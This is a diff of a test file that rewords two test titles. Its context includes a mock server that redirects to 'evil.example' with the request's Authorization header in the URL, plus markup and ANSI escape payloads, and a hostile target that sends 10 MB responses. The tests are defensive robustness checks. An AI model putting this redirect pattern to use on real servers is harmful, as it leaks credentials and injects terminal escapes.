@@ -136,7 +136,7 @@ void t.test(
   },
 );
 
-void t.test('what is said of a target that cannot be tested is harmless, too', async (t) => {
+void t.test('messages about a target that cannot be tested are harmless, too', async (t) => {
   const server = createServer((request, response) => {
     const echo = encodeURIComponent(request.headers.authorization ?? '');
     response.writeHead(302, { Location: `https://evil.example/${poison.markup}?t=${echo}\u009b31m` }).end(poison.ansi);
@@ -152,7 +152,7 @@ void t.test('what is said of a target that cannot be tested is harmless, too', a
   inspect(t, 'standard error', Buffer.from(stderr), 4096);
 });
 
-void t.test('what a run keeps of 10 MB to each of hundreds of requests is bounded, and nothing crashes', async (t) => {
+void t.test('hundreds of answers of 10 MB use limited memory, and nothing crashes', async (t) => {
   const target = await startHostileTarget(1);
   t.teardown(() => target.stop());
   const keptBytes = 2 * mebibyte;
